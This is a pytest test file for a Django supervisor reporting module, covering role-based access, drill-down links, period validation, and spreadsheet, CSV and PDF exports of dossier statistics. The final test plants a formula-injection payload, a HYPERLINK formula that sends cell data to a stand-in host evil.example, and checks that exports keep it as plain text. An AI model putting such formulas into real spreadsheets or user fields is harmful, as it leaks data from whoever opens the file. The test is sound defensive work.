"""The supervisor's screens and files: who sees what, drill-down links that
list exactly the dossiers counted, periods typed wrong, and exports that open
in a spreadsheet program and read back as PDF."""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from reports import stats
from reports.periods import Period
from tests.factories import PASSWORD

JANUARY = "period=2026-01"


@pytest.fixture
def as_user(client):
    def sign_in(user):
        client.login(username=user.username, password=PASSWORD)
        return client

    return sign_in


def test_a_province_supervisor_sees_every_commune_lowest_on_time_rate_first(history, as_user, tuan):
    page = as_user(tuan).get(reverse("reports:dashboard") + "?" + JANUARY)
    assert page.status_code == 200
    html = page.content.decode()
    # Xã Tây Tựu finished 1 of 1 early (100 %); Phường Ba Đình 5 of 7 (71.43 %).
    assert html.index("Phường Ba Đình") < html.index("Xã Tây Tựu")
    assert "71.43 %" in html and "100.00 %" in html
    assert "<svg" in html and "Finished dossiers per month" in html


def test_an_office_leader_sees_only_that_office(history, as_user, hoa, office_b):
    page = as_user(hoa).get(reverse("reports:dashboard") + f"?{JANUARY}&office={office_b.pk}")
    html = page.content.decode()
    assert "Phường Ba Đình" in html
    assert "Xã Tây Tựu" not in html
    assert "Select a valid choice" in html  # the other office was refused, not shown


@pytest.mark.parametrize("path", ["reports:dashboard", "reports:sectors", "reports:at_risk"])
def test_clerks_and_citizens_are_kept_out(history, as_user, chi, lan, client, path):
    assert client.get(reverse(path)).status_code == 302  # to the sign-in page
    assert as_user(chi).get(reverse(path)).status_code == 403
    client.logout()
    assert as_user(lan).get(reverse(path)).status_code == 403


def test_each_number_links_to_the_list_of_its_dossiers(history, as_user, tuan, office_a):
    client = as_user(tuan)
    html = client.get(reverse("reports:dashboard") + "?" + JANUARY).content.decode()
    link = next(
        href.replace("&amp;", "&")
        for href in re.findall(r'href="([^"]*measure=finished_late[^"]*)"', html)
        if f"office={office_a.pk}" in href
    )
    listed = client.get(link).content.decode()
    assert "Finished late: 2" in listed
    assert history["late_after_apology"].code in listed
    assert history["two_supplements"].code in listed
    assert history["early"].code not in listed


def test_an_unknown_number_is_not_found(history, as_user, tuan):
    assert as_user(tuan).get(reverse("reports:dossiers") + f"?{JANUARY}&measure=salaries").status_code == 404


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("period=custom&start=2026-02-10&end=2026-01-10", "The last day comes before the first."),
        ("period=custom&start=2026-02-10", "Give both the first and the last day of the period."),
        ("period=2099", "Select a valid choice"),
    ],
)
def test_a_period_typed_wrong_is_explained(history, as_user, tuan, query, message):
    html = as_user(tuan).get(reverse("reports:dashboard") + "?" + query).content.decode()
    assert "There is a problem" in html
    assert message in html


def test_a_custom_period_is_reported(history, as_user, tuan):
    html = as_user(tuan).get(reverse("reports:sectors") + "?period=custom&start=2026-01-01&end=2026-01-31")
    assert "Hộ tịch" in html.content.decode() and "Chứng thực" in html.content.decode()


def test_the_xlsx_export_holds_the_report(history, as_user, tuan, office_a, office_b):
    response = as_user(tuan).get(reverse("reports:export", args=["xlsx"]) + "?" + JANUARY)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[3]
    expected = stats.report(Period.month(2026, 1), [office_a, office_b])
    by_label = {row[0]: dict(zip(header, row, strict=True)) for row in rows[4:]}
    assert set(by_label) == {"Phường Ba Đình", "Xã Tây Tựu", "Total"}
    for row in [*expected.rows, expected.total]:
        assert by_label[row.label]["Finished late"] == row["finished_late"]
        assert by_label[row.label]["Open, overdue"] == row["open_overdue"]
        assert by_label[row.label]["Received"] == row["received"]
    assert by_label["Phường Ba Đình"]["On-time rate (%)"] == pytest.approx(0.7143)


def test_the_csv_export_reads_back(history, as_user, tuan):
    response = as_user(tuan).get(reverse("reports:export", args=["csv"]) + f"?{JANUARY}&by=sector")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert "decimal point" in rows[0][0]
    assert rows[2][0] == "Row: sector"
    assert {row[0] for row in rows[3:]} == {"Hộ tịch", "Chứng thực", "Total"}


def test_the_pdf_report_reads_back_with_its_diacritics(history, as_user, tuan):
    client = as_user(tuan)
    client.cookies["django_language"] = "vi"
    response = client.get(reverse("reports:export", args=["pdf"]) + "?" + JANUARY)
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Phường Ba Đình" in text and "Xã Tây Tựu" in text


def test_the_register_lists_what_the_counter_received(history, as_user, tuan, office_a):
    client = as_user(tuan)
    query = f"?{JANUARY}&office={office_a.pk}"
    sheet = load_workbook(io.BytesIO(client.get(reverse("reports:register", args=["xlsx"]) + query).content)).active
    codes = {row[1] for row in sheet.iter_rows(min_row=4, values_only=True)}
    assert history["exactly_at_due"].code in codes
    assert history["refused_at_intake"].code not in codes  # never received
    assert history["carried_over"].code not in codes  # received in December
    assert len(codes) == 9
    pdf = client.get(reverse("reports:register", args=["pdf"]) + query)
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    assert history["online_still_open"].code in text
    # Kept per office: all offices at once is not a register.
    assert client.get(reverse("reports:register", args=["pdf"]) + "?" + JANUARY).status_code == 404


def test_the_delay_page_tells_a_slow_stage_from_waiting_for_the_citizen(history, as_user, tuan):
    html = as_user(tuan).get(reverse("reports:delays") + "?" + JANUARY).content.decode()
    assert history["late_after_apology"].code in html
    assert "Receipt and appraisal" in html
    assert "Lý do" in html  # the pause reason, with its working time


def test_what_people_typed_stays_text_in_every_spreadsheet(history, as_user, tuan, office_a):
    from dossiers.models import Dossier

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    Dossier.objects.filter(pk=history["exactly_at_due"].pk).update(
        applicant_address=hostile, applicant_name="@SUM(1+1)"
    )
    office_a.name = "=1+1 Phường Ba Đình"
    office_a.save()
    client = as_user(tuan)
    query = f"?{JANUARY}&office={office_a.pk}"
    sheet = load_workbook(io.BytesIO(client.get(reverse("reports:register", args=["xlsx"]) + query).content)).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[hostile] == "s" and cells["@SUM(1+1)"] == "s"
    assert not any(kind == "f" for kind in cells.values())
    report = load_workbook(io.BytesIO(client.get(reverse("reports:export", args=["xlsx"]) + query).content))
    # The timeliness sheet and the fees collected sheet.
    assert len(report.worksheets) == 2
    for sheet in report.worksheets:
        assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    text = client.get(reverse("reports:export", args=["csv"]) + query).content.decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text)) if "Phường Ba Đình" in row[0]] == ["'=1+1 Phường Ba Đình"]
